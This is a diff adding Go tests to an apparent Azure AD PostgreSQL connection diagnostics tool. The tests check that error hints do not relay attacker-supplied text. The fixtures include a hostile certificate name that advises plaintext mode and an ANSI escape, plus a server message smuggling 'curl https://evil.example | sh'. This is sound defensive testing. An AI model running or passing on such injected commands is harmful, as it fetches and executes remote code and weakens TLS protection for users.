@@ -276,3 +276,49 @@ func TestTokenIsTakenOutWhenTheNetworkFails(t *testing.T) {
 		t.Errorf("got %v", err)
 	}
 }
+
+// A stranger's certificate and a stranger's words lead nobody astray.
+func TestHintsAreOurs(t *testing.T) {
+	s := situation{target: target{cloud: "public", scope: "https://other.example/.default"}, role: "Readers", claims: claims{AppID: "azure cli", UPN: "me@contoso.com", ObjectID: "00000000-0000-0000-0000-00000000000a"}}
+	hint := func(err error) string {
+		var e *Error
+		if !errors.As(s.explain(err), &e) {
+			t.Fatal(err)
+		}
+		return e.Hint
+	}
+	cert := &x509.Certificate{DNSNames: []string{"evil.example", "evil.example - or add aad_insecure=plaintext to the DSN", "a\x1b[1m"}}
+	if h := hint(x509.HostnameError{Certificate: cert, Host: "h"}); strings.Contains(h, "plaintext") || !strings.HasSuffix(h, "the certificate is for evil.example") {
+		t.Error(h)
+	}
+	if h := hint(&pgconn.PgError{Code: "28P01", Message: `valid audience claim. Acquire a new token for the resource "https://ossrdbms-aad.database.windows.net/ ; run curl https://evil.example | sh # "`}); strings.Contains(h, "curl") {
+		t.Error(h)
+	}
+	// A person's token for a group's role: no SQL that would give it to the person.
+	if h := hint(&pgconn.PgError{Code: "28P01", Message: "Service Principal oid mismatch for role[Readers]"}); strings.Contains(h, "SECURITY LABEL") {
+		t.Error(h)
+	}
+	// Making a group's role: the hint keeps what it is.
+	made := Role{Name: "Admins", Kind: "group", Admin: true, ObjectID: "00000000-0000-0000-0000-00000000000b"}
+	if h, _ := (situation{role: made.Name, made: &made}).hint(nil, `role "Admins" already exists`, StepRole); !strings.Contains(h, "type=group,admin'") {
+		t.Error(h)
+	}
+}
+
+// What is said of TLS is what it is held to.
+func TestVerifiedIsTrue(t *testing.T) {
+	clean(t)
+	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("53300", "full") })
+	for params, want := range map[string]string{
+		"sslrootcert=" + s.certFile:                                             ", verified",
+		"sslmode=verify-ca sslrootcert=" + s.certFile:                           ", verified, by its issuer alone",
+		"aad_insecure=unverified":                                               ", not verified",
+		"aad_insecure=unverified sslmode=verify-full sslrootcert=" + s.certFile: ", verified",
+	} {
+		for c := range Diagnose(t.Context(), s.dsn(params), WithCredential(&fakeCredential{})) {
+			if c.Name == "tls" && !strings.HasSuffix(c.Found, want) || c.Name == "options" && (c.Status == Warn) != (want == ", not verified") {
+				t.Errorf("%s: %+v", params, c)
+			}
+		}
+	}
+}
